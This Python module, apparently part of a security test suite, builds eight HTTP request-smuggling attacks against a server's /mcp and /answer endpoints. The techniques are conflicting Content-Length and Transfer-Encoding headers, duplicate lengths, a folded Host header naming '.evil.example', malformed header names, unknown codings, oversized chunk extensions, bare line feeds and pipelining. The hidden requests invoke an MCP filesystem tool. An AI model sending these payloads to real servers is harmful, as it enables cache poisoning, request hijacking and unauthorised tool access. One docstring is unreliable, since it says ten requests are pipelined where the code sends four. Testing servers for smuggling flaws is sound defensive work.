"""Request smuggling: requests whose length is declared in two ways, so that a second one could hide in the first."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

from quarterturn_attacks.agents.raw_client import (
    ANSWER_TIMEOUT_SECONDS,
    HOST,
    calling,
    request,
    send,
    solving,
    status,
    successes,
)

HIDDEN = request("POST", "/mcp", solving())
LOOK = calling("filesystem__list_allowed_directories")
BRIEF = 4.0
EXTENSION = 64 * 1024


def met(data: bytes, patience: float = ANSWER_TIMEOUT_SECONDS) -> dict[str, Any]:
    """Send bytes and say what came back: the first status, and how many successes."""
    answer = send(data, patience)
    return {"status": status(answer), "successes": successes(answer)}


def length_and_chunks() -> dict[str, Any]:
    """Tell the length in both ways: one reader takes what is hidden for a body, another for a request."""
    body = b"0\r\n\r\n" + HIDDEN
    return met(request("POST", "/answer", body, "Content-Length: 5", "Transfer-Encoding: chunked", close=False), BRIEF)


def two_lengths() -> dict[str, Any]:
    """Tell two lengths."""
    lengths = ("Content-Length: 0", f"Content-Length: {len(HIDDEN)}")
    return met(request("POST", "/answer", HIDDEN, *lengths, close=False), BRIEF)


def folded() -> dict[str, Any]:
    """Fold a header's line, so that one reader sees another Host than the next."""
    return met(request("POST", "/mcp", solving(), host=f"Host: {HOST}\r\n .evil.example"))


def space_before_colon() -> dict[str, Any]:
    """Put a space between a header's name and its colon: some take it for another header."""
    return met(request("POST", "/answer", HIDDEN, f"Content-Length : {len(HIDDEN)}", "Content-Length: 0"), BRIEF)


def strange_coding() -> dict[str, Any]:
    """Name a coding that nobody knows, behind which the length does not count."""
    return met(request("POST", "/answer", HIDDEN, "Transfer-Encoding: xchunked, identity", close=False), BRIEF)


def chunk_extensions() -> dict[str, Any]:
    """Hide a request in what may stand behind a chunk's size, and make that long."""
    hidden = HIDDEN.replace(b"\r\n", b" ")
    chunks = b"%x;%s\r\n%s\r\n0\r\n\r\n" % (len(LOOK), hidden, LOOK)
    long = b"%x;%s\r\n%s\r\n0\r\n\r\n" % (len(LOOK), b"x" * EXTENSION, LOOK)
    first = met(request("POST", "/mcp", chunks, "Transfer-Encoding: chunked"))
    second = met(request("POST", "/mcp", long, "Transfer-Encoding: chunked"))
    return {**first, "successes": first["successes"] + second["successes"], "long": second["status"]}


def bare_feeds() -> dict[str, Any]:
    """End lines with a bare line feed; whoever is served must be counted."""
    return met(request("POST", "/mcp", LOOK).replace(b"\r\n", b"\n"))


def pipelined() -> dict[str, Any]:
    """Send ten requests behind each other without waiting."""
    look = request("POST", "/mcp", LOOK, close=False)
    return met(look * 3 + request("POST", "/mcp", LOOK))


ATTEMPTS: Mapping[str, Callable[[], Mapping[str, Any]]] = {
    "smuggle-length-and-chunks": length_and_chunks,
    "smuggle-two-lengths": two_lengths,
    "smuggle-folded-host": folded,
    "smuggle-space-before-colon": space_before_colon,
    "smuggle-strange-coding": strange_coding,
    "smuggle-chunk-extension": chunk_extensions,
    "smuggle-bare-line-feeds": bare_feeds,
    "smuggle-pipelined": pipelined,
}
